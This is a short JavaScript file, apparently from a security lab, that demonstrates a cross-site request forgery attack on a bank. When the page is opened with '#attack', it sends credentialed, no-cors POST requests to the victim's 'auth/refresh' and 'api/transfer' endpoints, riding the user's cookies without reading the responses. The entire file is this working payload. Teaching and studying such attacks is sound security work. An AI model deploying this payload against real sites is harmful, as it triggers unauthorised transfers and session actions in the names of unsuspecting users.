// Sends requests to the bank from another port of its host, without being able to read the answers.

const { lab, victim } = document.body.dataset;

if (location.hash === "#attack") {
  for (const path of ["auth/refresh", "api/transfer"]) {
    await fetch(`${victim}/${lab}/${path}`, { method: "POST", mode: "no-cors", credentials: "include" });
  }
}
